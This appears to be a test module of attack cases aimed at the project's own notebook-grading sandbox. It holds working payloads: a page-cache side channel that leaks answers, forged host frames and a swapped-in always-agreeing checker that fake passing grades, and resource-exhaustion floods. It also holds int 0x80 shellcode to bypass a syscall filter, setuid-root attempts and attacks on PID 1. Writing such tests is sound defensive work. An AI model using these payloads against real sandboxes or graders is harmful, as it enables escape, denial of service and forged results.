# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Aimed at our own engine by somebody who has read it: its frames, its copies, its restarts, the kernel below it."""

from collections.abc import Callable
from typing import Any

from tests.attacks.attack import RIGHT, STUBS, Attack, cell
from tests.attacks.escape_parts import WON
from tests.attacks.leak_parts import KEEP

Notebook = dict[str, Any]

# The way to the host, and the number of the order that it waits for.
FRAMES = """\
import gc, json, os, struct, sys
shell = next((one for one in gc.get_objects() if type(one).__name__ == "Shell"), None)
def frame(message, raw=None):
    text = raw if raw is not None else json.dumps(message).encode()
    if shell is not None: shell._sock.sendall(struct.pack("<I", len(text)) + text)
"""

# A file so large and so little used that its pages tell who has read them; the same in every process.
PAGES = """\
import glob, os, sys
places = glob.glob("/usr/bin/*") + glob.glob("/usr/lib/*/*") + glob.glob(f"{sys.base_prefix}/lib/*") + glob.glob("/usr/lib/*/*/*")
known = [(os.path.getsize(place), place) for place in places if os.path.isfile(place) and "python3" not in place]
size, path = max(known)
handle = os.open(path, os.O_RDONLY)
os.posix_fadvise(handle, 0, 0, os.POSIX_FADV_RANDOM)
def page(n): return (size // 320 * n + (40 << 12)) // 4096 * 4096
sent = False
def keep(word):
    global sent
    if sent or word[0] != "w": return
    sent = True
    for n in range(216): os.posix_fadvise(handle, page(n), 4096, os.POSIX_FADV_DONTNEED)
    for n, bit in enumerate(3 * "".join(f"{int(digit):04b}" for digit in word[1:])):
        if bit == "1": os.pread(handle, 1, page(n))
def cached(n):
    try:
        return os.preadv(handle, [bytearray(1)], page(n), os.RWF_NOWAIT) > 0
    except OSError:
        return False
def told():
    bits = "".join(str(int(all(cached(n + part) for part in (0, 72, 144)))) for n in range(72))
    return "w" + "".join(str(int(bits[n:n + 4], 2)) for n in range(0, 72, 4))
"""


def _then(*sources: str) -> Callable[[Notebook], None]:
    """Adds these cells at the end."""
    return lambda notebook: notebook["cells"].extend(cell(source) for source in sources)


AIMED = [
    Attack(
        name="leak-through-the-page-cache", category="leak",
        tries="Ends its process so that its checks are asked early, and reads in the next one which pages of a file they read.",
        first=PAGES, answers=RIGHT | KEEP, earns=100, rewrite=_then("os._exit(0)", "print(told())"), ours_only=True,
    ),
    Attack(
        name="leak-asked-in-place", category="leak",
        tries="Claims that its process can't be copied, so that it is asked while cells are still to run.",
        first="""\
torch.cuda.is_initialized = lambda: True
kept = []
keep = kept.append""", answers=RIGHT | KEEP, earns=100,
        last="print(kept)", ours_only=True,
    ),
    Attack(
        name="leak-asked-early", category="leak",
        tries="Ends its process after a check, and looks in the next one for what the copies were asked.",
        first="""\
import os, tempfile
def keep(word):
    for place in ('/tmp', '/dev/shm', os.getcwd()):
        open(f'{place}/@MARK@', 'a').write(word)""",
        answers=RIGHT | KEEP, earns=100, ours_only=True,
        rewrite=_then("os._exit(0)", """\
for place in ('/tmp', '/dev/shm', os.getcwd()):
    if os.path.exists(f'{place}/@MARK@'): print(open(f'{place}/@MARK@').read())"""),
    ),
    Attack(
        name="leak-copies-that-speak", category="leak",
        tries="Has the copies that answer checks speak through the way to the host that their process had.",
        first=FRAMES + """\
hold = os.dup(shell._sock.fileno()) if shell else 1
def keep(word):
    for text in (json.dumps({'kind': 'stream', 'seq': n, 'content': {'name': 'stdout', 'text': word}}).encode() for n in range(1, 80)):
        try: os.write(hold, struct.pack('<I', len(text)) + text)
        except OSError: return""",
        answers=RIGHT | KEEP, earns=100, ours_only=True,
    ),
    Attack(
        name="forge-frames", category="forge", tries="Tells the host that later cells are done and later checks copied, by process 0, 1 and others.",
        first=FRAMES + """\
for n in range(1, 60):
    for pid in (0, 1, -1, True, '1', 2 ** 62):
        frame({'kind': 'snapshot', 'seq': n, 'content': {'pid': pid}})
    frame({'kind': 'done', 'seq': n, 'content': {}})
    frame({'kind': 'verdict', 'seq': n, 'content': {'check': 'scaling', 'earned': 20, 'status': 'passed'}})""",
        ours_only=True,
    ),
    Attack(
        name="forge-agent", category="forge", tries="Answers checks with an agent of its own, which always agrees.",
        first="""\
import seqlib.checks.agent as agent, seqlib.checks.compare as compare
class Agree:
    def __init__(self, *a): pass
    def answer(self, request): return {'earned': 20, 'status': 'passed', 'points': 20}
agent.Servant = Agree""",
        answers=STUBS, ours_only=True,
    ),
    Attack(
        name="exhaust-deep-frames", category="exhaust", tries="Shows values nested just as deep as the host can read and no deeper.",
        first=FRAMES + """\
for depth in [*range(50, 900, 50), *range(900, 1000, 3), 10**6]:
    for open_, close in (('[', ']'), ('{"a":', '}')):
        nest = open_ * depth + '1' + close * depth
        for kind in ('display_data', 'execute_result', 'error', 'stream', 'clear_output'):
            frame(None, ('{"kind": "' + kind + '", "seq": ' + str(shell._seq if shell else 1) + ', "content": {"data": {"text/plain": ' + nest
                         + '}, "traceback": ' + nest + ', "text": ' + nest + ', "ename": ' + nest + ', "metadata": ' + nest + '}}').encode()[:8 << 20])""",
        answers=RIGHT, earns=100, may_lose=True, ours_only=True,
    ),
    Attack(
        name="exhaust-wide-frames", category="exhaust", tries="Sends frames that are small as text and large in memory, and numbers without an end.",
        first=FRAMES + """\
for raw in (b'[' + b'{},' * 2_700_000 + b'{}]', b'[' + b'[],' * 2_700_000 + b'[]]', b'{"a":' + b'1' * (7 << 20) + b'}', b'[' + b'1e999,' * 10 ** 6 + b'NaN]'):
    for _ in range(3): frame(None, b'{"kind": "display_data", "seq": ' + str(shell._seq if shell else 1).encode() + b', "content": {"data": ' + raw + b'}}')
shell and shell._sock.sendall(struct.pack('<I', 2 ** 32 - 1) + bytes(1 << 20))""",
        answers=RIGHT, earns=100, may_lose=True, ours_only=True, slow=True,
    ),
    Attack(
        name="exhaust-handed-files", category="exhaust", tries="Hands the host open files until it has no room for more.",
        first=FRAMES + """\
import socket
if shell is not None:
    for _ in range(300): socket.send_fds(shell._sock, [struct.pack('<I', 2) + b'{}'], [0] * 200)""",
        answers=RIGHT, earns=100, ours_only=True,
    ),
    Attack(
        name="exhaust-slow-copies", category="exhaust", tries="Makes every copy of its process take for ever, so that the host waits at each check.",
        first="""\
import os, time
os.register_at_fork(before=lambda: time.sleep(10**6))""", answers=RIGHT, earns=100, may_lose=True, ours_only=True, slow=True,
    ),
    Attack(
        name="exhaust-busy-copies", category="exhaust", tries="Has every copy of its process compute from the moment that it is made.",
        first="""\
import os, threading
def busy():
    while True: pass
os.register_at_fork(after_in_child=lambda: [threading.Thread(target=busy, daemon=True).start() for _ in range(8)])""",
        answers=RIGHT, earns=100, may_lose=True, ours_only=True, slow=True,
    ),
    Attack(
        name="exhaust-many-copies", category="exhaust", tries="Has very many check cells, each of which would be a copy of a large process.",
        first="hog = torch.ones(50_000_000)", answers=RIGHT, earns=100, ours_only=True,
        rewrite=_then(*['check("scaling")', 'check("shares")'] * 400),
    ),
    Attack(
        name="escape-32-bit-calls", category="escape", tries="Makes system calls the way that programs of 32 bits do, past a filter for 64.",
        first=WON + """\
import mmap
def call():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    if run() == os.getpid(): won('int 0x80')
apart(call)""",
        answers=RIGHT, earns=100,
    ),
    Attack(
        name="escape-run-a-file", category="escape", tries="Runs a program of its own from a file without a name and from every folder that it may write to.",
        first=WON + """\
import shutil
for place in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):
    try:
        shutil.copy('/bin/true', f'{place}/own')
        os.chmod(f'{place}/own', 0o4755)
        if os.stat(f'{place}/own').st_uid == 0: won('set-user-id root')
    except OSError: pass""",
        answers=RIGHT, earns=100,
    ),
    Attack(
        name="sabotage-first-process", category="sabotage", tries="Ends, stops and traces the first process of its own namespaces.",
        first=WON + """\
import signal
for number in range(1, 65):
    if number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1):
        try: os.kill(1, number)
        except OSError: pass
if libc.prctl(1, 0, 0, 0, 0) == 0: pass
try:
    open('/proc/1/mem', 'r+b')
    won('memory of the first process')
except OSError: pass""",
        answers=RIGHT, earns=100, ours_only=True,
    ),
]  # fmt: skip
